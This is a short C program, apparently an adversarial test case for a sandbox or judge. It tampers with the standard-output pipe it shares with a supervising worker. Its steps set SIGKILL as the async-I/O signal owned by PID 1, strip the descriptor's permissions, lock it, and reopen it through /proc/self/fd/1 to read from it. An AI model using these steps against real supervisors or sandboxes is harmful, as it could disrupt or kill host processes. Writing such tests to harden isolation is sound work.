#include "attack.h"
// The pipes of the output are shared with the worker.
int main(void)
{
	fcntl(1, F_SETFL, O_NONBLOCK | O_ASYNC | O_APPEND);
	fcntl(1, F_SETOWN, 1);
	fcntl(1, F_SETSIG, SIGKILL);
	fcntl(1, F_SETPIPE_SZ, 4096);
	fchmod(1, 0);
	flock(1, LOCK_EX);
	int again = open("/proc/self/fd/1", O_RDWR | O_NONBLOCK); // the read end too
	if (again >= 0) {
		char c;
		read(again, &c, 1);
		fcntl(again, F_SETFL, 0);
	}
	return finish();
}
